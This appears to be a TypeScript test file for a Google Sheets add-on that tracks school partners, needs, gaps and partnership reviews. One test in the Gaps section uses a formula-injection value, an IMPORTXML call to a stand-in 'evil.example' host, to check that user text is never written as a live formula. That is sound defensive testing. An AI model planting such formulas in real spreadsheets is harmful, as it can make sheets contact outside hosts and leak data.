// Needs, gaps, the network landscape and the partnership lifecycle on the built bundle.
import type { AddOn } from '../../dev/gas';
import { loadAddOn } from '../../dev/gas';
import { seedDemoSchool } from '../../dev/preview/demo';
import type { GapsView, Listed, ReviewContext, RollupResult, SaveResult } from '../../src/shared/contract';
import type { Gathering, Onboarding, Review, Vetting } from '../../src/shared/records';
import { addPartner, directory, failure, ok, setUpAddOn } from './helpers';
import { byHand } from '../../dev/workspace/by-hand';

function demo(): AddOn {
  const addOn = loadAddOn({ now: () => new Date('2026-11-23T15:00:00Z') });
  seedDemoSchool(addOn, '2026-11-23');
  return addOn;
}

describe('needs and gaps', () => {
  it('classifies every need of the demo school once and finds each kind of risk', () => {
    const addOn = demo();
    const view = ok<GapsView>(addOn, 'getGaps');
    const needs = directory(addOn).needs;
    expect(view.singleSchool).toBe(true);
    expect(view.report.needs.map((n) => n.needId).sort()).toEqual(needs.map((n) => n.record.id).sort());
    const unmet = view.report.needs.filter((n) => n.status === 'unmet').map((n) => view.needNames[n.needId]);
    expect(unmet).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/post-secondary transition coaching \(5\)/),
        expect.stringMatching(/enrichment and expanded learning \(PK\)/),
      ]),
    );
    expect(view.report.counts['single funding source']).toBeGreaterThan(0);
    expect(view.report.counts['check-in overdue']).toBeGreaterThan(0);
    for (const f of view.report.findings) expect(f.needId ?? f.partnerIds[0]).toBeTruthy();
  });

  it('rebuilds the Gaps tab, each finding linked to its row, with no text turned into a formula', () => {
    const addOn = demo();
    ok(addOn, 'saveNeed', {
      values: {
        school: 'Riverside Community School',
        focusArea: 'other',
        grades: '3',
        description: '=IMPORTXML("https://evil.example","//a")',
        priority: 'high',
        status: 'open',
      },
    });
    addOn.workspace.calls.reset();
    const result = ok<{ tab: string; rows: number }>(addOn, 'writeGapsTab');
    const tab = addOn.workspace.inspect().tabs.find((t) => t.name === 'Gaps')!;
    // Made with its rows, sized and its header frozen, in one Sheets API batch.
    expect(addOn.workspace.calls.count('Sheets.Spreadsheets.batchUpdate')).toBe(1);
    expect(addOn.workspace.calls.count('SpreadsheetApp.Range.setValues')).toBe(0);
    expect(tab.frozenRows).toBe(1);
    expect(tab.values).toHaveLength(result.rows + 1);
    const links = tab.formulas.flat().filter(Boolean);
    expect(links.length).toBe(result.rows);
    expect(links.every((f) => /^=HYPERLINK\("#gid=\d+&range=A\d+", "Open (partner|need)"\)$/.test(f))).toBe(
      true,
    );
    ok(addOn, 'writeGapsTab');
    expect(addOn.workspace.inspect().tabs.filter((t) => t.name === 'Gaps')).toHaveLength(1);
    // A person trims the tab to two rows and one column: the next rebuild grows it and writes it all.
    const gaps = addOn.workspace.spreadsheet.getSheetByName('Gaps')!;
    gaps.deleteRows(3, gaps.getMaxRows() - 2);
    byHand.deleteColumns(gaps, 2, gaps.getMaxColumns() - 1);
    addOn.workspace.calls.reset();
    ok(addOn, 'writeGapsTab');
    const again = addOn.workspace.inspect().tabs.find((t) => t.name === 'Gaps')!;
    expect(again.values).toEqual(tab.values);
    expect(again.formulas).toEqual(tab.formulas);
    expect(addOn.workspace.calls.count('SpreadsheetApp.Sheet.insertRowsAfter')).toBe(1);
    expect(addOn.workspace.calls.count('SpreadsheetApp.Sheet.insertColumnsAfter')).toBe(1);
  });

  it('makes the Gaps tab the SpreadsheetApp way when a tab of the person has the id it would take', () => {
    const addOn = demo();
    ok(addOn, 'writeGapsTab');
    const made = addOn.workspace.inspect().tabs.find((t) => t.name === 'Gaps')!;
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Gaps')!;
    byHand.renameSheet(sheet, 'Mine');
    addOn.workspace.calls.reset();
    ok(addOn, 'writeGapsTab');
    const tabs = addOn.workspace.inspect().tabs;
    const again = tabs.find((t) => t.name === 'Gaps')!;
    // The batch was refused (the id is the person's tab's now) with nothing made; the tab came the other way.
    expect(addOn.workspace.calls.count('Sheets.Spreadsheets.batchUpdate')).toBe(1);
    expect(again.sheetId).not.toBe(made.sheetId);
    expect(again.values).toEqual(made.values);
    expect(again.formulas).toEqual(made.formulas);
    expect(again.frozenRows).toBe(1);
    expect(tabs.find((t) => t.name === 'Mine')!.values).toEqual(made.values);
  });

  it('writes the Dashboard with four Sheets charts', () => {
    const addOn = demo();
    ok(addOn, 'writeDashboard');
    const tab = addOn.workspace.inspect().tabs.find((t) => t.name === 'Dashboard')!;
    expect(tab.charts).toHaveLength(4);
    expect(tab.values[0][0]).toBe('At a glance');
    expect(tab.values.map((r) => r[0])).toContain('Partners by focus area and status');
    ok(addOn, 'writeDashboard');
    expect(addOn.workspace.inspect().tabs.find((t) => t.name === 'Dashboard')!.charts).toHaveLength(4);
  });
});

describe('network landscape', () => {
  it('rolls up three schools, says which spreadsheet it cannot open, and finds partners for a school’s gap', () => {
    const addOn = demo();
    const w = addOn.workspace;
    // Two other schools' Partner Hub spreadsheets: one shared, one not.
    const other = w.addSpreadsheet('Eastside partners');
    const tab = (name: string, rows: unknown[][]) =>
      other.insertSheet(name).getRange(1, 1, rows.length, rows[0].length).setValues(rows);
    tab('Schools', [
      ['School ID', 'School'],
      ['S-0000000b01', 'Eastside Middle School'],
    ]);
    tab('Partners', [
      ['Partner ID', 'Organization', 'Status', 'Focus areas', 'Grades served', 'Schools served'],
      ['P-0000000e01', 'Reading Partners Riverside', 'active', 'tutoring', 'K-4', 'Eastside Middle School'],
    ]);
    tab('Needs', [
      ['Need ID', 'School', 'Focus area', 'Grades', 'Status'],
      ['N-0000000e01', 'Eastside Middle School', 'mentoring', '6', 'open'],
      ['N-0000000e02', 'Eastside Middle School', 'tutoring', '2', 'open'],
    ]);
    const closed = w.addSpreadsheet('Northside partners');
    w.denyAccess(closed.getId());
    const result = ok<RollupResult>(addOn, 'rollupNetwork', [other.getUrl(), closed.getUrl(), 'not a link']);
    expect(result.sources.map((s) => [s.ok, s.partners])).toEqual([
      [true, directory(addOn).partners.length],
      [true, 1],
      [false, 0],
      [false, 0],
    ]);
    expect(result.sources[2].error).toMatch(/cannot open this spreadsheet/);
    expect(result.sources[3].error).toMatch(/not a Google Sheets link/);
    expect(result.landscape.schools).toEqual(
      expect.arrayContaining(['Riverside Community School', 'Eastside Middle School']),
    );
    const eastside = result.landscape.candidates.find((c) => c.needId === '1/N-0000000e01');
    // Active mentoring partners for grade 6 at Riverside could fill Eastside's gap.
    expect(eastside?.partnerIds.map((id) => result.partnerNames[id])).toEqual(
      expect.arrayContaining(['Big Brothers Big Sisters of the Valley', 'Brothers on the Rise']),
    );
  });
});

describe('the partnership lifecycle', () => {
  it('vets a prospect, approves it into onboarding, onboards it, and records the annual review', () => {
    const addOn = setUpAddOn();
    const p = addPartner(addOn, {
      name: 'Chess in the Schools',
      status: 'prospect',
      focusAreas: ['enrichment and expanded learning'],
      services: 'Chess club',
    });
    const vetting = ok<Listed<Vetting>>(addOn, 'startVetting', p.record.id);
    expect(directory(addOn).partners[0].record.status).toBe('vetting');
    const { id, created: _c, updated: _u, ...values } = vetting.record;
    const checklist = {
      ...values,
      familiarity: 'strong',
      references: 'adequate',
      referencesNote: 'Two principals vouched',
      decision: 'approve',
    };
    // Who decided is typed, never read from Session: the address there is the person using the add-on,
    // and it is blank for consumer accounts and people of other domains.
    addOn.workspace.setActiveUserEmail('');
    const unnamed = ok<SaveResult<Vetting>>(addOn, 'saveVetting', {
      id,
      version: vetting.version,
      values: checklist,
    });
    expect(unnamed).toEqual({
      status: 'invalid',
      errors: { decidedBy: 'Decided by: give the name of the person who made the decision.' },
    });
    expect(directory(addOn).partners[0].record.status).toBe('vetting');
    const decided = ok<SaveResult<Vetting>>(addOn, 'saveVetting', {
      id,
      version: vetting.version,
      values: { ...checklist, decidedBy: 'Ms. Rivera, coordinator' },
    });
    expect(decided.status).toBe('saved');
    if (decided.status !== 'saved') return;
    expect(decided.entry.record).toMatchObject({ decision: 'approve', decidedBy: 'Ms. Rivera, coordinator' });
    expect(addOn.workspace.calls.count('Session.User.getEmail')).toBe(0);
    expect(directory(addOn).partners[0].record.status).toBe('onboarding');
    const doc = ok<{ url: string }>(addOn, 'makePartnerDoc', 'vetting', p.record.id);
    expect(JSON.stringify(addOn.workspace.inspectDocument(doc.url).tree)).toContain('Two principals vouched');

    const steps = {
      expectations: '2026-11-01',
      roles: '2026-11-02',
      agreement: '2026-11-03',
      dataSharingNotNeeded: true,
      safety: '2026-11-04',
      clearances: '2026-11-05',
      liaisonAssigned: '2026-11-06',
      introduced: '2026-11-07',
    };
    const onboarding = ok<SaveResult<Onboarding>>(addOn, 'saveOnboarding', {
      values: { partnerId: p.record.id, ...steps },
    });
    expect(onboarding.status).toBe('saved');
    expect(failure(addOn, 'saveOnboarding', { values: { partnerId: p.record.id } })).toMatch(
      /already has an onboarding row/,
    );
    const agreement = ok<{ url: string }>(addOn, 'makePartnerDoc', 'agreement', p.record.id);
    expect(JSON.stringify(addOn.workspace.inspectDocument(agreement.url).tree)).toMatch(
      /Roles and responsibilities.*Communication plan.*Data and safety/,
    );

    const context = ok<ReviewContext>(addOn, 'reviewContext', p.record.id);
    expect(context.questions).toEqual(['What worked?', 'What did not work?', 'How do we move forward?']);
    expect(context.evidence.join(' ')).toMatch(/Check-ins this school year: 0/);
    const review = ok<SaveResult<Review>>(addOn, 'saveReview', {
      values: {
        partnerId: p.record.id,
        year: context.year,
        worked: 'Steady attendance',
        didNotWork: 'Room changes',
        forward: 'Fixed room',
        decision: 'continue',
        decidedBy: 'Ms. Rivera',
      },
    });
    expect(review.status).toBe('saved');
    if (review.status !== 'saved') return;
    expect(review.entry.record).toMatchObject({ decision: 'continue', year: '2026-27' });
    expect(review.entry.record.evidence).toMatch(/No survey answers yet/);
  });

  it('makes the staff directory and the overview for a new administrator', () => {
    const addOn = demo();
    const directoryDoc = ok<{ url: string }>(addOn, 'makeSchoolDoc', 'directory');
    const tree = addOn.workspace.inspectDocument(directoryDoc.url).tree;
    const table = (tree.children ?? []).find((n) => n.type === 'TABLE');
    expect(table?.rows?.[0]).toEqual(['Partner', 'What they do', 'Grades', 'Contact']);
    expect((table?.rows?.length ?? 0) - 1).toBe(
      directory(addOn).partners.filter((p) => p.record.status === 'active').length,
    );
    const overview = ok<{ url: string }>(addOn, 'makeSchoolDoc', 'overview');
    expect(JSON.stringify(addOn.workspace.inspectDocument(overview.url).tree)).toContain(
      'Every student known, every family welcomed',
    );
  });

  it('makes the year-end report for staff and for partners from one read of each tab', () => {
    const addOn = demo();
    const partners = directory(addOn).partners;
    const active = partners.filter((p) => p.record.status === 'active');
    const [first] = active;
    const saved = ok<SaveResult<Gathering>>(addOn, 'saveGathering', {
      values: {
        kind: 'multi-partner gathering',
        title: 'Fall partner gathering',
        date: '2026-09-22',
        start: '15:30',
        end: '17:00',
        status: 'held',
        invited: [first.record.id],
      },
    });
    expect(saved.status).toBe('saved');
    const sheets = () => addOn.workspace.calls.total('SpreadsheetApp');
    const before = sheets();
    const staff = ok<{ url: string }>(addOn, 'makeSchoolDoc', 'yearStaff');
    // One read of each tab it reports on, and no call per partner.
    expect(sheets() - before).toBeLessThanOrEqual(30);
    const tables = (url: string) =>
      (addOn.workspace.inspectDocument(url).tree.children ?? []).filter((n) => n.type === 'TABLE');
    const [byPartner] = tables(staff.url);
    expect(byPartner.rows?.[0]).toContain('Latest survey average');
    const row = byPartner.rows?.find((r) => r[0] === first.record.name);
    expect(row?.[3]).toBe('1');
    expect(JSON.stringify(addOn.workspace.inspectDocument(staff.url).tree)).toContain('For staff only');

    const forPartners = ok<{ url: string }>(addOn, 'makeSchoolDoc', 'yearPartners');
    const text = JSON.stringify(addOn.workspace.inspectDocument(forPartners.url).tree);
    expect(text).toContain('For our partners and community');
    expect(text).not.toContain('For staff only');
    expect(tables(forPartners.url)[0].rows?.[0]).not.toContain('Latest survey average');
    expect(failure(addOn, 'makeSchoolDoc', 'yearly')).toMatch(/yearStaff/);
  });
});
